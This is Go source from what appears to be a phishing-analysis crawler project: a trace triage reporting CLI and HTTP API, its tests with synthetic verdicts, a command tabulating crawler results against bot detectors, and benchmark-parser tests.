		if ma.SpearPhish {
			line += " spear[" + ma.Brand + "]"
		}
		if ma.Landing != nil {
			line += " landing=" + ma.Landing.Host
		}
		if cloaks := cloakSummary(ma); cloaks != "" {
			line += " cloaks={" + cloaks + "}"
		}
		fmt.Println(line)
	}
	return writeObservability(observer, *tracePath, *metricsPath)
}

// writeObservability dumps the observer's trace JSONL and Prometheus text
// exports to the requested files. A nil observer writes nothing.
func writeObservability(o *obs.Observer, tracePath, metricsPath string) error {
	if o == nil {
		return nil
	}
	if tracePath != "" {
		f, err := os.Create(tracePath)
		if err != nil {
			return err
		}
		if err := o.WriteJSONL(f); err != nil {
			f.Close()
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
	}
	if metricsPath != "" {
		f, err := os.Create(metricsPath)
		if err != nil {
			return err
		}
		if err := o.Metrics.WriteProm(f); err != nil {
			f.Close()
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
	}
	return nil
}

func cloakSummary(ma *crawlerbox.MessageAnalysis) string {
	c := ma.Cloaks
	var parts []string
	for _, kv := range []struct {
		name string
		on   bool
	}{
		{"turnstile", c.Turnstile}, {"recaptcha", c.ReCaptcha},
		{"token", c.TokenizedURL}, {"victim", c.VictimCheck},
		{"otp", c.OTPPrompt}, {"math", c.MathChallenge},
		{"console", c.ConsoleHijack}, {"debugger", c.DebuggerTimer},
		{"hue", c.HueRotate}, {"fpgate", c.FingerprintGate},
		{"faultyqr", ma.Parse.FaultyQR}, {"noise", ma.Parse.NoisePadded},
	} {
		if kv.on {
			parts = append(parts, kv.name)
		}
	}
	return strings.Join(parts, ",")
}
