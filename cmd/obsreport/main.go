// Command obsreport renders the trace-driven triage views.
//
// In JSONL mode it reads a trace dump produced by `crawlerbox -trace` or
// `report -trace` and renders the corpus-level stage-latency table (p50/p95
// in virtual nanoseconds), the outcome tally, the slowest messages with
// their critical paths, and — for one selected message — the full indented
// span tree. Truncated or corrupt dumps fail with a non-zero exit instead
// of rendering a silently-partial report.
//
// In store mode (-store) it serves the triage index a `-tracestore` run
// persisted: conjunctive key=value queries over the inverted index
// (domain, outcome, errkind, stage, status, cloak, adjudicable, plus id
// and limit), per-message analyst checklists, and verdict re-adjudication
// from the stored evidence facts — no re-crawl, no live pipeline.
// -serve exposes the same store over HTTP as a small triage service.
// -compact folds one or more segments into a fresh canonical segment.
//
// All durations are virtual time read from each analysis's private clock
// fork, so every view is byte-identical across runs and worker counts.
//
// Usage:
//
//	obsreport [-top K] [-msg N] trace.jsonl
//	obsreport -store seg.tstore [-q QUERY] [-checklist ID] [-adjudicate ID] [-stats]
//	obsreport -store seg.tstore -serve ADDR
//	obsreport -compact out.tstore in1.tstore [in2.tstore ...]
//
// Example queries:
//
//	obsreport -store run.tstore -q "outcome=partial-evidence"
//	obsreport -store run.tstore -q "domain=login.example stage=classify"
//	obsreport -store run.tstore -q "cloak=turnstile limit=5"
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	"crawlerbox/internal/obs"
	"crawlerbox/internal/tracestore"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "obsreport:", err)
		os.Exit(1)
	}
}

func run(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("obsreport", flag.ContinueOnError)
	top := fs.Int("top", 3, "show the K slowest messages with their critical paths")
	msg := fs.Int64("msg", 0, "render the full span tree for this trace (message) ID")
	store := fs.String("store", "", "open triage index segment(s) written by -tracestore instead of a JSONL dump; comma-separate to federate, later segments win on duplicate IDs")
	query := fs.String("q", "", "store mode: run a query (space-separated key=value terms) and print matching verdicts")
	checklist := fs.Int64("checklist", 0, "store mode: render the triage checklist for this message ID")
	adjudicate := fs.Int64("adjudicate", 0, "store mode: re-derive this message's verdict from its stored facts")
	stats := fs.Bool("stats", false, "store mode: print segment statistics")
	serve := fs.String("serve", "", "store mode: serve the triage API over HTTP on this address (e.g. :8080)")
	compact := fs.Bool("compact", false, "compact segments: obsreport -compact OUT IN [IN...]")
	if err := fs.Parse(args); err != nil {
		return err
	}

	if *compact {
		if fs.NArg() < 2 {
			return fmt.Errorf("usage: obsreport -compact out.tstore in.tstore [in.tstore ...]")
		}
		if err := tracestore.Compact(fs.Arg(0), fs.Args()[1:]...); err != nil {
			return err
		}
		fmt.Fprintf(w, "compacted %d segment(s) into %s\n", fs.NArg()-1, fs.Arg(0))
		return nil
	}
	if *store != "" {
		return runStore(*store, *query, *checklist, *adjudicate, *stats, *serve, w)
	}
	if fs.NArg() != 1 {
		return fmt.Errorf("usage: obsreport [-top K] [-msg N] trace.jsonl")
	}
	return runJSONL(fs.Arg(0), *top, *msg, w)
}

// runJSONL renders the legacy triage report from a trace JSONL dump,
// refusing truncated or structurally damaged input.
func runJSONL(path string, top int, msg int64, w io.Writer) error {
	raw, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	if len(raw) == 0 {
		return fmt.Errorf("%s: empty trace file", path)
	}
	if raw[len(raw)-1] != '\n' {
		return fmt.Errorf("%s: truncated trace file (no trailing newline after last span record)", path)
	}
	traces, err := obs.ReadJSONL(strings.NewReader(string(raw)))
	if err != nil {
		return fmt.Errorf("%s: corrupt trace file: %w", path, err)
	}
	if len(traces) == 0 {
		return fmt.Errorf("%s: no spans", path)
	}
	if err := obs.ValidateTraces(traces); err != nil {
		return fmt.Errorf("%s: corrupt trace file: %w", path, err)
	}

	spans := 0
	for _, t := range traces {
		spans += len(t.Spans())
	}
	fmt.Fprintf(w, "Trace corpus: %d messages, %d spans\n\n", len(traces), spans)
	fmt.Fprintln(w, obs.RenderStageTable(traces))
	fmt.Fprintln(w, obs.RenderOutcomes(traces))
	if fr := obs.RenderFaultRecovery(traces); fr != "" {
		fmt.Fprintln(w, fr)
	}

	if top > 0 {
		fmt.Fprintf(w, "Slowest %d messages (critical path)\n", top)
		for _, t := range obs.SlowestTraces(traces, top) {
			fmt.Fprintf(w, "trace %d: %s\n", t.ID(), obs.RenderCriticalPath(t))
		}
	}

	if msg != 0 {
		for _, t := range traces {
			if t.ID() == msg {
				fmt.Fprintf(w, "\nSpan tree for message %d\n", msg)
				fmt.Fprint(w, obs.RenderTree(t))
				return nil
			}
		}
		return fmt.Errorf("trace %d not found", msg)
	}
	return nil
}

// runStore serves the triage-index views: query, checklist, adjudication,
// stats, or the HTTP service. path may be a comma-separated segment list;
// the segments federate with later-segment-wins overlay semantics.
func runStore(path, query string, checklist, adjudicate int64, stats bool, serve string, w io.Writer) error {
	st, err := tracestore.Open(strings.Split(path, ",")...)
	if err != nil {
		return err
	}
	defer st.Close()
	if serve != "" {
		return serveStore(st, path, serve, w)
	}
	ran := false
	if query != "" {
		q, err := tracestore.ParseQuery(query)
		if err != nil {
			return err
		}
		verdicts, err := st.Query(q)
		if err != nil {
			return err
		}
		fmt.Fprint(w, tracestore.RenderVerdicts(q, verdicts))
		ran = true
	}
	if checklist != 0 {
		text, err := st.Checklist(checklist)
		if err != nil {
			return err
		}
		fmt.Fprint(w, text)
		ran = true
	}
	if adjudicate != 0 {
		r, err := st.Readjudicate(adjudicate)
		if err != nil {
			return err
		}
		fmt.Fprint(w, renderAdjudication(r))
		ran = true
	}
	if stats || !ran {
		fmt.Fprint(w, tracestore.RenderStats(st.Stats()))
	}
	return nil
}

// renderAdjudication formats one re-adjudication result.
func renderAdjudication(r tracestore.Readjudication) string {
	var b strings.Builder
	fmt.Fprintf(&b, "adjudicate — message %d\n", r.ID)
	fmt.Fprintf(&b, "  stored : %s\n", withKind(r.StoredOutcome, r.StoredErrorKind))
	if !r.Adjudicable {
		fmt.Fprintf(&b, "  derived: %s (outcome fixed before classification; carried through)\n",
			withKind(r.Outcome, r.ErrorKind))
	} else {
		fmt.Fprintf(&b, "  derived: %s (from stored facts, no crawl)\n", withKind(r.Outcome, r.ErrorKind))
	}
	match := "yes"
	if !r.Match {
		match = "NO — stored verdict drifted from current adjudication rules"
	}
	fmt.Fprintf(&b, "  match  : %s\n", match)
	return b.String()
}

// withKind suffixes a non-"none" error kind onto an outcome.
func withKind(outcome, kind string) string {
	if kind != "" && kind != "none" {
		return outcome + " (" + kind + ")"
	}
	return outcome
}
