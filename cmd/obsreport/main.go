// Command obsreport renders the trace-driven triage views from a JSONL
// trace dump produced by `crawlerbox -trace` or `report -trace`: the
// corpus-level stage-latency table (p50/p95 in virtual nanoseconds), the
// outcome tally, the slowest messages with their critical paths, and — for
// one selected message — the full indented span tree (flame summary).
//
// All durations are virtual time read from each analysis's private clock
// fork, so the report is byte-identical across runs and worker counts.
//
// Usage:
//
//	obsreport [-top K] [-msg N] trace.jsonl
package main

import (
	"flag"
	"fmt"
	"io"
	"os"

	"crawlerbox/internal/obs"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "obsreport:", err)
		os.Exit(1)
	}
}

func run(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("obsreport", flag.ContinueOnError)
	top := fs.Int("top", 3, "show the K slowest messages with their critical paths")
	msg := fs.Int64("msg", 0, "render the full span tree for this trace (message) ID")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() != 1 {
		return fmt.Errorf("usage: obsreport [-top K] [-msg N] trace.jsonl")
	}
	f, err := os.Open(fs.Arg(0))
	if err != nil {
		return err
	}
	defer f.Close()
	traces, err := obs.ReadJSONL(f)
	if err != nil {
		return err
	}
	if len(traces) == 0 {
		return fmt.Errorf("%s: no spans", fs.Arg(0))
	}

	spans := 0
	for _, t := range traces {
		spans += len(t.Spans())
	}
	fmt.Fprintf(w, "Trace corpus: %d messages, %d spans\n\n", len(traces), spans)
	fmt.Fprintln(w, obs.RenderStageTable(traces))
	fmt.Fprintln(w, obs.RenderOutcomes(traces))
	if fr := obs.RenderFaultRecovery(traces); fr != "" {
		fmt.Fprintln(w, fr)
	}

	if *top > 0 {
		fmt.Fprintf(w, "Slowest %d messages (critical path)\n", *top)
		for _, t := range obs.SlowestTraces(traces, *top) {
			fmt.Fprintf(w, "trace %d: %s\n", t.ID(), obs.RenderCriticalPath(t))
		}
	}

	if *msg != 0 {
		for _, t := range traces {
			if t.ID() == *msg {
				fmt.Fprintf(w, "\nSpan tree for message %d\n", *msg)
				fmt.Fprint(w, obs.RenderTree(t))
				return nil
			}
		}
		return fmt.Errorf("trace %d not found", *msg)
	}
	return nil
}
