package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"

	"crawlerbox/internal/obs"
	"crawlerbox/internal/tracestore"
)

// serveStore runs the HTTP triage service over one open segment.
func serveStore(st *tracestore.Store, path, addr string, w io.Writer) error {
	fmt.Fprintf(w, "obsreport: serving triage index %s on %s\n", path, addr)
	return http.ListenAndServe(addr, triageMux(st))
}

// triageMux builds the triage API. Split from serveStore so the endpoint
// behavior is testable with httptest against a real segment.
//
// Endpoints:
//
//	GET /                    — text summary: stats + endpoint list
//	GET /api/stats           — segment statistics (JSON)
//	GET /api/query?q=...     — verdicts matching a query (JSON array)
//	GET /api/verdict?id=N    — one verdict row (JSON)
//	GET /api/trace?id=N      — rendered span tree (text/plain)
//	GET /api/checklist?id=N  — triage checklist (text/plain)
//	GET /api/adjudicate?id=N — re-adjudication from stored facts (JSON)
func triageMux(st *tracestore.Store) *http.ServeMux {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		fmt.Fprintf(w, "crawlerbox triage index\n\n")
		fmt.Fprint(w, tracestore.RenderStats(st.Stats()))
		fmt.Fprint(w, "\nendpoints:\n"+
			"  /api/stats\n"+
			"  /api/query?q=outcome%3Dpartial-evidence+domain%3Dlogin.example\n"+
			"  /api/verdict?id=N\n"+
			"  /api/trace?id=N\n"+
			"  /api/checklist?id=N\n"+
			"  /api/adjudicate?id=N\n")
	})
	mux.HandleFunc("/api/stats", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, st.Stats())
	})
	mux.HandleFunc("/api/query", func(w http.ResponseWriter, r *http.Request) {
		q, err := tracestore.ParseQuery(r.URL.Query().Get("q"))
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		verdicts, err := st.Query(q)
		if err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
		writeJSON(w, verdicts)
	})
	mux.HandleFunc("/api/verdict", func(w http.ResponseWriter, r *http.Request) {
		id, ok := idParam(w, r)
		if !ok {
			return
		}
		v, err := st.Verdict(id)
		if err != nil {
			storeError(w, err)
			return
		}
		writeJSON(w, v)
	})
	mux.HandleFunc("/api/trace", func(w http.ResponseWriter, r *http.Request) {
		id, ok := idParam(w, r)
		if !ok {
			return
		}
		t, err := st.Trace(id)
		if err != nil {
			storeError(w, err)
			return
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		if t == nil {
			fmt.Fprintf(w, "message %d: no stored trace\n", id)
			return
		}
		fmt.Fprintf(w, "Span tree for message %d\n", id)
		fmt.Fprint(w, obs.RenderTree(t))
	})
	mux.HandleFunc("/api/checklist", func(w http.ResponseWriter, r *http.Request) {
		id, ok := idParam(w, r)
		if !ok {
			return
		}
		text, err := st.Checklist(id)
		if err != nil {
			storeError(w, err)
			return
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		fmt.Fprint(w, text)
	})
	mux.HandleFunc("/api/adjudicate", func(w http.ResponseWriter, r *http.Request) {
		id, ok := idParam(w, r)
		if !ok {
			return
		}
		adj, err := st.Readjudicate(id)
		if err != nil {
			storeError(w, err)
			return
		}
		writeJSON(w, adj)
	})
	return mux
}

// idParam parses the mandatory id query parameter, writing a 400 on
// failure.
func idParam(w http.ResponseWriter, r *http.Request) (int64, bool) {
	raw := r.URL.Query().Get("id")
	id, err := strconv.ParseInt(raw, 10, 64)
	if err != nil || id <= 0 {
		http.Error(w, fmt.Sprintf("bad id %q: want a positive integer", raw), http.StatusBadRequest)
		return 0, false
	}
	return id, true
}

// storeError maps store lookup failures to HTTP statuses.
func storeError(w http.ResponseWriter, err error) {
	if strings.Contains(err.Error(), "not found") {
		http.Error(w, err.Error(), http.StatusNotFound)
		return
	}
	http.Error(w, err.Error(), http.StatusInternalServerError)
}

// writeJSON writes v as indented JSON.
func writeJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	enc.Encode(v)
}
