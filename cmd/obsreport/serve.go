package main

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"os/signal"
	"syscall"

	"crawlerbox/internal/climain"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/tracestore"
)

// serveStore runs the HTTP triage service over one open store (possibly
// federating several segments), shutting down gracefully on SIGINT/SIGTERM.
func serveStore(st *tracestore.Store, path, addr string, w io.Writer) error {
	srv, err := climain.NewHTTPServer(addr, triageMux(st))
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "obsreport: serving triage index %s on %s\n", path, srv.Addr())
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()
	return srv.Run(ctx)
}

// triageMux builds the triage API. Split from serveStore so the endpoint
// behavior is testable with httptest against a real segment.
//
// Endpoints:
//
//	GET /                    — text summary: stats + endpoint list
//	GET /api/stats           — segment statistics (JSON)
//	GET /api/query?q=...     — verdicts matching a query (JSON array)
//	GET /api/verdict?id=N    — one verdict row (JSON)
//	GET /api/trace?id=N      — rendered span tree (text/plain)
//	GET /api/checklist?id=N  — triage checklist (text/plain)
//	GET /api/adjudicate?id=N — re-adjudication from stored facts (JSON)
func triageMux(st *tracestore.Store) *http.ServeMux {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		fmt.Fprintf(w, "crawlerbox triage index\n\n")
		fmt.Fprint(w, tracestore.RenderStats(st.Stats()))
		fmt.Fprint(w, "\nendpoints:\n"+
			"  /api/stats\n"+
			"  /api/query?q=outcome%3Dpartial-evidence+domain%3Dlogin.example\n"+
			"  /api/verdict?id=N\n"+
			"  /api/trace?id=N\n"+
			"  /api/checklist?id=N\n"+
			"  /api/adjudicate?id=N\n")
	})
	mux.HandleFunc("/api/stats", func(w http.ResponseWriter, r *http.Request) {
		climain.WriteJSON(w, st.Stats())
	})
	mux.HandleFunc("/api/query", func(w http.ResponseWriter, r *http.Request) {
		q, err := tracestore.ParseQuery(r.URL.Query().Get("q"))
		if err != nil {
			climain.HTTPError(w, http.StatusBadRequest, err.Error())
			return
		}
		verdicts, err := st.Query(q)
		if err != nil {
			climain.HTTPError(w, http.StatusInternalServerError, err.Error())
			return
		}
		climain.WriteJSON(w, verdicts)
	})
	mux.HandleFunc("/api/verdict", func(w http.ResponseWriter, r *http.Request) {
		id, ok := climain.IDParam(w, r)
		if !ok {
			return
		}
		v, err := st.Verdict(id)
		if err != nil {
			climain.LookupError(w, err)
			return
		}
		climain.WriteJSON(w, v)
	})
	mux.HandleFunc("/api/trace", func(w http.ResponseWriter, r *http.Request) {
		id, ok := climain.IDParam(w, r)
		if !ok {
			return
		}
		t, err := st.Trace(id)
		if err != nil {
			climain.LookupError(w, err)
			return
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		if t == nil {
			fmt.Fprintf(w, "message %d: no stored trace\n", id)
			return
		}
		fmt.Fprintf(w, "Span tree for message %d\n", id)
		fmt.Fprint(w, obs.RenderTree(t))
	})
	mux.HandleFunc("/api/checklist", func(w http.ResponseWriter, r *http.Request) {
		id, ok := climain.IDParam(w, r)
		if !ok {
			return
		}
		text, err := st.Checklist(id)
		if err != nil {
			climain.LookupError(w, err)
			return
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		fmt.Fprint(w, text)
	})
	mux.HandleFunc("/api/adjudicate", func(w http.ResponseWriter, r *http.Request) {
		id, ok := climain.IDParam(w, r)
		if !ok {
			return
		}
		adj, err := st.Readjudicate(id)
		if err != nil {
			climain.LookupError(w, err)
			return
		}
		climain.WriteJSON(w, adj)
	})
	return mux
}
