package main

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/tracestore"
)

// fixedClock satisfies obs.Clock with a settable virtual time.
type fixedClock struct{ at time.Time }

func (c *fixedClock) Now() time.Time { return c.at }

// makeStore finalizes a small synthetic segment: one adjudicable phishing
// message with a span tree, and one parse-halted message without.
func makeStore(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "seg.tstore")
	w, err := tracestore.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	clock := &fixedClock{at: time.Date(2024, 11, 1, 0, 0, 0, 0, time.UTC)}
	tr := obs.NewTrace(1, clock)
	root := tr.Start(obs.SpanMessage, "message")
	stage := tr.Start(obs.SpanStage, "classify")
	clock.at = clock.at.Add(50 * time.Millisecond)
	stage.SetStatus(obs.StatusOK)
	stage.End()
	root.SetStatus(obs.StatusOK)
	root.End()

	w.Add(tracestore.Verdict{
		ID: 1, Domain: "login.example", Hosts: []string{"login.example"},
		Outcome: "active-phishing", ErrorKind: "none", Adjudicable: true,
		Facts: []crawlerbox.VisitFact{{
			URL: "https://login.example/p", Host: "login.example",
			Class: crawlerbox.FactPhishForm, Status: 200, HasDOM: true,
		}},
	})
	w.Add(tracestore.Verdict{ID: 2, Outcome: "no-web-resource", ErrorKind: "none"})
	if err := w.Finalize([]*obs.Trace{tr}, []obs.Point{{Name: "runs_total", Type: "counter", Value: 1}}); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestCorruptTraceInputFails pins the fail-loudly contract: truncated or
// structurally damaged JSONL must exit non-zero with a diagnostic, never
// render a silently-partial report.
func TestCorruptTraceInputFails(t *testing.T) {
	dir := t.TempDir()
	write := func(name, content string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	valid := `{"trace":1,"span":1,"kind":"message","name":"m","start":0,"end":10,"status":"ok"}` + "\n"
	for _, tc := range []struct {
		name, path, wantErr string
	}{
		{"empty", write("empty.jsonl", ""), "empty trace file"},
		{"no-newline", write("cut.jsonl", strings.TrimSuffix(valid, "\n")), "truncated"},
		{"bad-json", write("garbage.jsonl", valid + `{"trace":2,"span":` + "\n"), "corrupt"},
		{"orphan-parent", write("orphan.jsonl",
			valid + `{"trace":1,"span":5,"parent":9,"kind":"stage","name":"s","start":0,"end":1,"status":"ok"}` + "\n"),
			"missing parent"},
		{"two-roots", write("roots.jsonl",
			valid + `{"trace":1,"span":2,"kind":"stage","name":"s","start":0,"end":1,"status":"ok"}` + "\n"),
			"root spans"},
	} {
		var buf bytes.Buffer
		err := run([]string{tc.path}, &buf)
		if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
			t.Errorf("%s: err = %v, want substring %q", tc.name, err, tc.wantErr)
		}
		if buf.Len() > 0 {
			t.Errorf("%s: rendered %d bytes despite the error (partial report)", tc.name, buf.Len())
		}
	}
}

// TestStoreCLI drives the store-mode flags end to end against a synthetic
// segment.
func TestStoreCLI(t *testing.T) {
	path := makeStore(t)
	out := func(args ...string) string {
		var buf bytes.Buffer
		if err := run(args, &buf); err != nil {
			t.Fatalf("run(%v): %v", args, err)
		}
		return buf.String()
	}
	if got := out("-store", path); !strings.Contains(got, "traces: 2 (1 adjudicable)") {
		t.Errorf("stats output:\n%s", got)
	}
	got := out("-store", path, "-q", "domain=login.example outcome=active-phishing")
	if !strings.Contains(got, "1 match(es)") || !strings.Contains(got, "active-phishing") {
		t.Errorf("query output:\n%s", got)
	}
	got = out("-store", path, "-checklist", "1")
	if !strings.Contains(got, "[x] credential form observed") ||
		!strings.Contains(got, "MATCHES stored verdict") ||
		!strings.Contains(got, "[x] classify") {
		t.Errorf("checklist output:\n%s", got)
	}
	got = out("-store", path, "-adjudicate", "1")
	if !strings.Contains(got, "match  : yes") {
		t.Errorf("adjudicate output:\n%s", got)
	}
	if err := run([]string{"-store", path, "-q", "color=red"}, &bytes.Buffer{}); err == nil ||
		!strings.Contains(err.Error(), "valid keys") {
		t.Errorf("bad query key: err = %v", err)
	}

	// Compact through the CLI and confirm byte identity.
	compacted := filepath.Join(t.TempDir(), "compacted.tstore")
	out("-compact", compacted, path)
	a, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(compacted)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a, b) {
		t.Error("CLI compact of a single segment changed its bytes")
	}
}

// TestTriageServer drives every HTTP endpoint through httptest.
func TestTriageServer(t *testing.T) {
	st, err := tracestore.Open(makeStore(t))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	srv := httptest.NewServer(triageMux(st))
	defer srv.Close()

	get := func(path string, wantStatus int) string {
		resp, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		var buf bytes.Buffer
		buf.ReadFrom(resp.Body)
		if resp.StatusCode != wantStatus {
			t.Fatalf("GET %s: status %d, want %d\n%s", path, resp.StatusCode, wantStatus, buf.String())
		}
		return buf.String()
	}

	if got := get("/", http.StatusOK); !strings.Contains(got, "traces: 2 (1 adjudicable)") {
		t.Errorf("index page:\n%s", got)
	}
	if got := get("/api/stats", http.StatusOK); !strings.Contains(got, `"traces": 2`) {
		t.Errorf("stats JSON:\n%s", got)
	}
	got := get("/api/query?q=outcome%3Dactive-phishing+domain%3Dlogin.example", http.StatusOK)
	if !strings.Contains(got, `"id": 1`) || strings.Contains(got, `"id": 2`) {
		t.Errorf("query JSON:\n%s", got)
	}
	if got := get("/api/verdict?id=1", http.StatusOK); !strings.Contains(got, `"outcome": "active-phishing"`) {
		t.Errorf("verdict JSON:\n%s", got)
	}
	if got := get("/api/trace?id=1", http.StatusOK); !strings.Contains(got, "classify") {
		t.Errorf("trace render:\n%s", got)
	}
	if got := get("/api/trace?id=2", http.StatusOK); !strings.Contains(got, "no stored trace") {
		t.Errorf("traceless message render:\n%s", got)
	}
	if got := get("/api/checklist?id=1", http.StatusOK); !strings.Contains(got, "credential form observed") {
		t.Errorf("checklist render:\n%s", got)
	}
	got = get("/api/adjudicate?id=1", http.StatusOK)
	if !strings.Contains(got, `"match": true`) {
		t.Errorf("adjudicate JSON:\n%s", got)
	}
	get("/api/verdict?id=99", http.StatusNotFound)
	get("/api/verdict?id=zero", http.StatusBadRequest)
	get("/api/query?q=color%3Dred", http.StatusBadRequest)
	get("/nope", http.StatusNotFound)
}

// TestStoreCLIFederated drives a comma-separated -store list: the two
// segments federate with later-segment-wins overlay semantics.
func TestStoreCLIFederated(t *testing.T) {
	base := makeStore(t)
	overlay := filepath.Join(t.TempDir(), "overlay.tstore")
	w, err := tracestore.Create(overlay)
	if err != nil {
		t.Fatal(err)
	}
	w.Add(tracestore.Verdict{ID: 2, Outcome: "active-phishing", Domain: "other.example"})
	w.Add(tracestore.Verdict{ID: 9, Outcome: "cloaked-benign"})
	if err := w.Finalize(nil, nil); err != nil {
		t.Fatal(err)
	}

	var buf bytes.Buffer
	if err := run([]string{"-store", base + "," + overlay, "-stats"}, &buf); err != nil {
		t.Fatal(err)
	}
	got := buf.String()
	if !strings.Contains(got, "traces: 3") {
		t.Errorf("federated stats:\n%s", got)
	}
	buf.Reset()
	if err := run([]string{"-store", base + "," + overlay, "-q", "outcome=no-web-resource"}, &buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "0 match(es)") {
		t.Errorf("shadowed base row leaked into federated query:\n%s", buf.String())
	}
}
