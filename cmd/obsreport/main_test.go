package main

import (
	"bytes"
	"os"
	"strings"
	"testing"
)

// TestReportGolden pins the rendered triage report — including the
// fault-recovery table — for a recorded fault-injected trace (crawlerbox
// -seed 42 -scale 0.1 -n 8 -faults 0.1 -trace ...). Regenerate both files
// with:
//
//	go run ./cmd/crawlerbox -n 8 -workers 4 -faults 0.1 -trace cmd/obsreport/testdata/trace.jsonl > /dev/null
//	go run ./cmd/obsreport -top 3 -msg 2 cmd/obsreport/testdata/trace.jsonl > cmd/obsreport/testdata/report.golden
func TestReportGolden(t *testing.T) {
	want, err := os.ReadFile("testdata/report.golden")
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := run([]string{"-top", "3", "-msg", "2", "testdata/trace.jsonl"}, &buf); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != string(want) {
		t.Errorf("report drifted from golden:\n--- got ---\n%s\n--- want ---\n%s", got, want)
	}
}

func TestReportMissingTrace(t *testing.T) {
	var buf bytes.Buffer
	if err := run([]string{"-msg", "999", "testdata/trace.jsonl"}, &buf); err == nil ||
		!strings.Contains(err.Error(), "not found") {
		t.Errorf("missing trace id: err = %v", err)
	}
	if err := run([]string{}, &buf); err == nil || !strings.Contains(err.Error(), "usage") {
		t.Errorf("missing file arg: err = %v", err)
	}
}
