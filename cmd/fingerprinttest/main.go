// Command fingerprinttest reproduces the Table I experiment: every crawler
// in the fleet visits a BotD-instrumented page, a Turnstile-gated site, and
// an AnonWAF-protected origin; the services' verdict logs fill the matrix.
//
// Usage:
//
//	fingerprinttest [-v]
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"strings"

	"crawlerbox/internal/crawler"
	"crawlerbox/internal/report"
)

func main() {
	verbose := flag.Bool("v", false, "print detection reasons per cell")
	flag.Parse()

	a, err := crawler.RunAssessment(context.Background())
	if err != nil {
		fmt.Fprintln(os.Stderr, "fingerprinttest:", err)
		os.Exit(1)
	}
	fmt.Println(report.RenderTable1(a))
	if *verbose {
		for _, k := range crawler.AllKinds {
			for _, d := range crawler.AllDetectors {
				cell := a.Cell(k, d)
				if cell.Passed {
					continue
				}
				fmt.Printf("%-24s vs %-10s detected: %s\n",
					k, d, strings.Join(cell.Reasons, ", "))
			}
		}
	}
	var winners []string
	for _, k := range crawler.AllKinds {
		if a.PassesAll(k) {
			winners = append(winners, k.String())
		}
	}
	fmt.Printf("\ncrawlers evading all detectors: %s\n", strings.Join(winners, ", "))
}
