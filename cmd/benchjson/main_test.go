package main

import "testing"

func TestParseLine(t *testing.T) {
	name, m, ok := parseLine("BenchmarkPerceptualHashing/pHash-8 \t 993\t  206316 ns/op\t   28208 B/op\t       6 allocs/op")
	if !ok {
		t.Fatal("line not recognized")
	}
	if name != "PerceptualHashing/pHash-8" {
		t.Errorf("name = %q", name)
	}
	for k, want := range map[string]float64{
		"ns_per_op": 206316, "bytes_per_op": 28208, "allocs_per_op": 6,
	} {
		if m[k] != want {
			t.Errorf("%s = %v, want %v", k, m[k], want)
		}
	}
}

func TestParseLineCustomMetric(t *testing.T) {
	name, m, ok := parseLine("BenchmarkPipelineThroughputParallel/workers-8 \t 5\t 240000000 ns/op\t 533.2 msgs/s")
	if !ok {
		t.Fatal("line not recognized")
	}
	if name != "PipelineThroughputParallel/workers-8" {
		t.Errorf("name = %q", name)
	}
	if m["msgs_per_s"] != 533.2 {
		t.Errorf("msgs_per_s = %v", m["msgs_per_s"])
	}
}

func TestParseLineRejectsNoise(t *testing.T) {
	for _, line := range []string{
		"goos: linux",
		"PASS",
		"ok  \tcrawlerbox\t2.5s",
		"BenchmarkBroken abc 1 ns/op",
		"--- BENCH: BenchmarkFoo",
	} {
		if _, _, ok := parseLine(line); ok {
			t.Errorf("line %q should not parse", line)
		}
	}
}
